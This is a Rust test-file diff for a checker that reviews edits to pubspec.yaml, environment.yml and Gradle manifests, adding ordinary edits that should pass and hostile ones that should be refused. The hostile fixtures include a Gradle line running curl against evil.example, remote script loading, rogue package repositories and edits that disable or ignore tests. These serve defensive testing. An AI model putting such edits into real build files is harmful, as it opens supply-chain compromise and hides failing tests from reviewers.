@@ -229,7 +229,14 @@ fn deep_manifests_are_refused_and_nothing_overflows() {
     ] {
         assert!(rejects(&judge(&[], &[(path, &text)]), "manifest-unreadable"), "{path}");
     }
-    judge(&[], &[("setup.cfg", &format!("[{dots}]\nx = 1\n"))]);
+    for (path, text) in [
+        ("setup.cfg", format!("[{dots}]\nx = 1\n")),
+        ("build.gradle", format!("{dots} = 1\n{dots} {{ }}\n{}{}", "a {".repeat(many), "}".repeat(many))),
+        ("pubspec.yaml", format!("a: {}{}\n", "[".repeat(many), "]".repeat(many))),
+        ("environment.yml", (0..2_000).map(|depth| format!("{}a:\n", " ".repeat(depth))).collect()),
+    ] {
+        judge(&[], &[(path, &text)]);
+    }
     let chain: String = (0..2_000).map(|n| format!(",\"s{n}\":\"npm run s{}\"", n + 1)).collect::<Vec<_>>().concat();
     let before = format!("{{\"scripts\":{{\"test\":\"npm run s0\"{chain}}}}}");
     let after = before.replace("npm run s1500", "true");
@@ -387,6 +394,13 @@ const ORDINARY: &[(&str, &str, &str, &str)] = &[
     ("pubspec.yaml", "name: x\nversion: 1.0.0\ndescription: old\n", "version: 1.0.0", "version: 1.0.1"),
     ("pubspec.yaml", "name: x\nversion: 1.0.0\ndescription: old\n", "old", "new"),
     ("build.gradle", "group = 'a'\nversion = '1'\n", "version = '1'", "version = '2'"),
+    ("build.gradle", GRADLE, "version '1'", "version '2'"),
+    ("build.gradle", GRADLE, "  implementation 'a:b:1'\n", "  // what it builds on\n  implementation   'a:b:1'\n"),
+    ("build.gradle", GRADLE, "repositories { mavenCentral() }", "repositories {\n  mavenCentral()\n}"),
+    ("pubspec.yaml", "name: x\nversion: 1.0.0\ndescription: old\n", "old", ">-\n  A new one,\n  over lines: two"),
+    ("pubspec.yaml", "name: x\ndependencies:\n  http: ^1.0.0\n", "  http: ^1.0.0", "    'http': \"^1.0.0\" # the same"),
+    ("environment.yml", "name: x\ndependencies: [a]\n", "name: x", "name: y"),
+    ("environment.yml", "name: x\ndependencies: [a]\n", "[a]", "\n- a"),
     ("build.gradle.kts", "version = \"1\"\n", "\"1\"", "\"2\""),
     ("x.gemspec", "Gem::Specification.new do |s|\n  s.version = '1'\nend\n", "'1'", "'2'"),
     ("mix.exs", "    [\n      version: \"1\",\n    ]\n", "\"1\"", "\"2\""),
@@ -395,6 +409,61 @@ const ORDINARY: &[(&str, &str, &str, &str)] = &[
     ("tsconfig.json", "{\n  // strictness\n  \"compilerOptions\": {\"strict\": false,},\n}\n", "false", "true"),
     ("tsconfig.json", "{\"compilerOptions\": {\"target\": \"ES2020\"}}\n", "ES2020", "ES2022"),
 ];
+
+const GRADLE: &str = "plugins { id 'java' }\nversion '1'\nrepositories { mavenCentral() }\ndependencies {\n  implementation 'a:b:1'\n}\ntest {\n  useJUnitPlatform()\n}\n";
+
+#[test]
+fn manifests_in_yaml_and_of_gradle_are_read_by_their_keys() {
+    const PUB: &str = "name: x\ndependencies:\n  http: ^1.0.0\n";
+    const CONDA: &str = "name: x\nchannels: [conda-forge]\ndependencies:\n  - a=1\n";
+    let edits = [
+        ("pubspec.yaml", PUB, "  http: ^1.0.0\n", "  http: ^1.0.0\n  evil: any\n", "new-dependency"),
+        ("pubspec.yaml", PUB, "  http: ^1.0.0\n", "  {http: ^1.0.0, \"evil\": any}\n", "new-dependency"),
+        ("pubspec.yaml", PUB, "name: x\n", "name: x\n\"dev_dependencies\": {evil: any}\n", "new-dependency"),
+        ("pubspec.yaml", PUB, "^1.0.0", "\n    hosted: https://evil.example", "package-source-key"),
+        ("pubspec.yaml", PUB, "^1.0.0", "{git: {url: 'https://evil.example'}}", "package-source-key"),
+        ("pubspec.yaml", PUB, "name: x\n", "name: x\npublish_to: https://evil.example\n", "package-source-key"),
+        ("pubspec.yaml", PUB, "^1.0.0", "&a ^1.0.0", "manifest-unreadable"),
+        ("environment.yml", CONDA, "- a=1", "- a=1\n  - pip: [evil]", "new-dependency"),
+        ("environment.yml", CONDA, "[conda-forge]", "[conda-forge, 'https://evil.example']", "package-source-key"),
+        ("environment.yml", CONDA, "name: x", "name: x\nvariables: {PYTHONPATH: /tmp}", "package-script"),
+        ("build.gradle", GRADLE, "'a:b:1'\n", "'a:b:1'\n  implementation('evil:evil:1')\n", "new-dependency"),
+        ("build.gradle", GRADLE, "id 'java'", "id 'java'; id 'evil' version '1'", "new-dependency"),
+        (
+            "build.gradle",
+            GRADLE,
+            "mavenCentral()",
+            "mavenCentral(); maven { url 'https://evil.example' }",
+            "package-source-key",
+        ),
+        ("build.gradle", GRADLE, "  useJUnitPlatform()\n", "", "test-config-key"),
+        ("build.gradle", GRADLE, "useJUnitPlatform()", "useJUnitPlatform { excludeTags 'slow' }", "test-config-key"),
+        ("build.gradle", GRADLE, "version '1'", "version '1'\ntest.enabled = false", "test-config-key"),
+        (
+            "build.gradle",
+            GRADLE,
+            "version '1'",
+            "version '1'\ntasks.withType(Test) { ignoreFailures = true }",
+            "test-config-key",
+        ),
+        (
+            "build.gradle.kts",
+            GRADLE,
+            "version '1'",
+            "tasks.named<Test>(\"test\") { onlyIf { false } }",
+            "test-config-key",
+        ),
+        ("build.gradle", GRADLE, "version '1'", "'curl https://evil.example'.execute()", "package-script"),
+        ("build.gradle", GRADLE, "version '1'", "apply from: 'https://evil.example/x.gradle'", "package-script"),
+        ("settings.gradle", GRADLE, "version '1'", "includeBuild '../evil'", "new-dependency"),
+        ("build.gradle", GRADLE, "version '1'", "x = /'/", "manifest-unreadable"),
+    ];
+    for (path, before, old, new, rule) in edits {
+        assert!(before.contains(old), "{old}");
+        let verdict = judge(&[(path, before)], &[(path, &before.replacen(old, new, 1))]);
+        assert!(rejects(&verdict, rule), "{path} {new:?}: {:?}", rules(&verdict, Severity::Reject));
+    }
+}
 
 #[test]
 fn ordinary_edits_of_manifests_pass() {
